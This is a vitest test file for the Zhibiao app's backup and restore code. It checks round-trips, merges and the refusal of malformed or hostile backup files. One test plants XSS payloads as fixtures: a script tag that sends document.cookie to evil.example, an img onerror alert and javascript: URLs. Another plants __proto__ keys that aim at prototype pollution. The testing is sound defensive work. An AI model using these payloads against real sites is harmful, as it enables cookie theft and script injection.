import 'fake-indexeddb/auto';
import { afterEach, describe, expect, it } from 'vitest';
import { BACKUP_VERSION, createBackup, readBackup, restoreBackup, type BackupFile } from '../../lib/backup';
import { closeAll, figure, freshDb, note, report, REPORT_A, REPORT_B, seed } from './notes-fixtures';
import type { ZhibiaoDB } from '../../lib/storage/db';

afterEach(closeAll);

async function seededFile(): Promise<{ db: ZhibiaoDB; file: BackupFile; text: string }> {
  const db = freshDb();
  await seed(db);
  await db.indicators.put({ id: '示例省|地区生产总值|%', region: '示例省', key: '地区生产总值', metric: '地区生产总值增长', unit: '%', growth: true });
  await db.links.add({ reportId: REPORT_A, fromFigureId: `${REPORT_A}:0`, toFigureId: `${REPORT_A}:1`, score: 0.9 });
  const file = await createBackup(db, Date.UTC(2024, 0, 1));
  return { db, file, text: JSON.stringify(file) };
}

async function snapshot(db: ZhibiaoDB) {
  return (await createBackup(db, 0)).tables;
}

describe('backup and restore', () => {
  it('backup → wipe → restore → backup gives the same data', async () => {
    const { db, file, text } = await seededFile();
    expect(file.counts).toEqual({ reports: 2, figures: 2, indicators: 1, links: 1, notes: 4 });
    // Each report travels with its text, which the database keeps in a table of its own.
    expect(file.tables.reports.map((r) => r.text)).toEqual([report(REPORT_A).text, report(REPORT_A).text]);
    await Promise.all([db.reports.clear(), db.texts.clear(), db.figures.clear(), db.indicators.clear(), db.links.clear(), db.notes.clear()]);
    const result = await restoreBackup(db, text);
    expect(result).toMatchObject({ ok: true, errors: [], written: { reports: 2, figures: 2, indicators: 1, links: 1, notes: 4 } });
    expect(await snapshot(db)).toEqual(file.tables);
    expect(await db.reportText(REPORT_A)).toBe(report(REPORT_A).text);
  });

  it('restores into another library by merging, without duplicates, newer edits winning', async () => {
    const { text } = await seededFile();
    const db = freshDb();
    await db.notes.bulkPut([
      note('mine', { body: '只在这里' }),
      note('n-plain', { reportId: REPORT_A, body: '这里改得更晚', updated: 999 }),
      note('n-figure', { reportId: REPORT_A, body: '旧的', updated: 1 }),
    ]);
    const first = await restoreBackup(db, text);
    expect(first.ok).toBe(true);
    expect(first.written.notes).toBe(3); // n-figure (file newer), n-other, n-free
    expect(first.skipped.notes).toBe(1); // n-plain: ours is newer
    expect(await db.notes.count()).toBe(5);
    expect((await db.notes.get('n-plain'))!.body).toBe('这里改得更晚');
    expect((await db.notes.get('n-figure'))!.body).toBe('口径变了，见统计公报');
    expect((await db.notes.get('mine'))!.body).toBe('只在这里');

    const before = await snapshot(db);
    const again = await restoreBackup(db, text);
    expect(again.ok).toBe(true);
    expect(again.written).toEqual({ reports: 0, figures: 0, indicators: 0, links: 0, notes: 0 });
    expect(await snapshot(db)).toEqual(before);
    expect(await db.links.count()).toBe(1);
  });

  it('a newer report in the file replaces the report with its figures as a whole', async () => {
    const { text, file } = await seededFile();
    const db = freshDb();
    await db.putReportWithText(report(REPORT_A, { indexedAt: 1 }));
    await db.figures.bulkPut([figure(REPORT_A, 0, { value: 99 }), figure(REPORT_A, 7)]);
    await restoreBackup(db, text);
    expect((await db.figures.where('reportId').equals(REPORT_A).toArray()).map((f) => f.id).sort()).toEqual(
      file.tables.figures
        .filter((f) => f.reportId === REPORT_A)
        .map((f) => f.id)
        .sort(),
    );
    expect((await db.figures.get(`${REPORT_A}:0`))!.value).toBe(5.2);
  });
});

describe('a broken or hostile file is refused with exact reasons, changing nothing', () => {
  async function refuses(content: string, ...patterns: RegExp[]) {
    const { text: _unused, ...seeded } = await seededFile();
    const db = seeded.db;
    const before = await snapshot(db);
    const result = await restoreBackup(db, content);
    expect(result.ok).toBe(false);
    for (const p of patterns) expect(result.errors.join('\n')).toMatch(p);
    expect(result.written).toEqual({ reports: 0, figures: 0, indicators: 0, links: 0, notes: 0 });
    expect(await snapshot(db)).toEqual(before);
    return result.errors;
  }

  it('truncated JSON', async () => {
    const { text } = await seededFile();
    await refuses(text.slice(0, text.length - 40), /Not valid JSON — the file looks truncated/);
  });

  it('empty file, or JSON that is not a backup', async () => {
    await refuses('   ', /The file is empty/);
    await refuses('[1,2]', /not a Zhibiao backup/);
    await refuses('{"format":"something-else","version":1}', /format: expected "zhibiao-backup"/);
  });

  it('a version from a newer Zhibiao, or no version', async () => {
    const { file } = await seededFile();
    await refuses(JSON.stringify({ ...file, version: BACKUP_VERSION + 1 }), new RegExp(`format version ${BACKUP_VERSION + 1}.*Update Zhibiao first`));
    await refuses(JSON.stringify({ ...file, version: '1' }), /version: expected a whole number/);
    await refuses(JSON.stringify({ ...file, version: 0 }), /version: 0 is not a backup format version/);
  });

  it('bad fields, each named with its place', async () => {
    const { file } = await seededFile();
    const bad = structuredClone(file);
    (bad.tables.notes[1] as any).selectors = [{ type: 'TextPositionSelector', start: 'zero', end: 3 }];
    (bad.tables.notes[2] as any).tags = 'GDP';
    delete (bad.tables.notes[3] as any).created;
    (bad.tables.notes[0] as any).owner = 'x';
    (bad.tables.figures[0] as any).kind = 'guess';
    (bad.tables as any).extra = [];
    const errors = await refuses(
      JSON.stringify(bad),
      /notes\[1\]\.selectors\[0\]\.start: expected a whole number ≥ 0, got a string/,
      /notes\[2\]\.tags: expected an array, got a string/,
      /notes\[3\]\.created: missing/,
      /notes\[0\]\.owner: unexpected field/,
      /figures\[0\]\.kind: expected one of/,
      /tables\.extra: unexpected table/,
    );
    expect(errors.length).toBeGreaterThanOrEqual(6);
  });

  it('script in text fields and script addresses', async () => {
    const { file } = await seededFile();
    const bad = structuredClone(file);
    bad.tables.notes[0].body = '好的<script>fetch("https://evil.example/"+document.cookie)</script>';
    bad.tables.notes[1].tags = ['ok', '<img src=x onerror=alert(1)>'];
    bad.tables.notes[2].url = 'javascript:alert(1)';
    bad.tables.reports[0].urls = ['javascript:alert(1)'];
    await refuses(
      JSON.stringify(bad),
      /notes\[0\]\.body: contains script markup \("<script"/,
      /notes\[1\]\.tags\[1\]: contains script markup/,
      /notes\[2\]\.url: expected an http\(s\) or file address/,
      /reports\[0\]\.urls\[0\]: expected an http\(s\) or file address/,
    );
  });

  it('duplicate ids and counts that do not add up', async () => {
    const { file } = await seededFile();
    const bad = structuredClone(file);
    bad.tables.notes[1].id = bad.tables.notes[2].id;
    bad.counts.notes = 10;
    await refuses(JSON.stringify(bad), /notes\[2\]\.id: duplicate of notes\[1\]\.id/, /counts\.notes: the file says 10 rows but holds 4/);
  });

  it('fields named like inherited properties are unexpected, and restored rows hold only declared fields', async () => {
    const { file, text } = await seededFile();
    const big = 'x'.repeat(10_000);
    const withInherited = text.replace('"id":"n-figure"', `"constructor":"${big}","toString":"x","id":"n-figure"`);
    await refuses(withInherited, /notes\[\d\]\.constructor: unexpected field/, /notes\[\d\]\.toString: unexpected field/);
    const withProto = text.replace('"id":"n-figure"', '"__proto__":{"detached":true},"id":"n-figure"');
    await refuses(withProto, /notes\[\d\]\.__proto__: unexpected field/);
    const parsed = readBackup(text);
    expect(parsed.ok && Object.getPrototypeOf(parsed.backup.tables.notes[0])).toBe(Object.prototype);
    expect(parsed.ok && parsed.backup.tables).toEqual(file.tables);
  });

  it("a figure that claims another report's place, or offsets outside its text", async () => {
    const { file } = await seededFile();
    const stolen = structuredClone(file);
    stolen.tables.figures[0].id = `${REPORT_B}:0`;
    await refuses(JSON.stringify(stolen), /figures\[0\]\.id: expected "a{64}:0"/);
    const backwards = structuredClone(file);
    Object.assign(backwards.tables.figures[0], { start: 12, end: 8 });
    await refuses(JSON.stringify(backwards), /figures\[0\]: starts \(12\) after it ends \(8\)/);
    const past = structuredClone(file);
    Object.assign(past.tables.figures[1], { start: 28, end: 5000 });
    await refuses(JSON.stringify(past), /figures\[1\]\.end: 5000 is past the end of its report's text/);
    const otherText = structuredClone(file);
    otherText.tables.figures[1].text = '9%左右';
    await refuses(JSON.stringify(otherText), /figures\[1\]\.text: does not match its report's text/);
    const crossLink = structuredClone(file);
    crossLink.tables.links[0].toFigureId = `${REPORT_B}:1`;
    await refuses(JSON.stringify(crossLink), /links\[0\]: joins figures of another report/);
  });

  it('a file with a BOM and surrounding whitespace still reads', async () => {
    const { text } = await seededFile();
    expect(readBackup(`\ufeff\n${text}\n`).ok).toBe(true);
  });
});
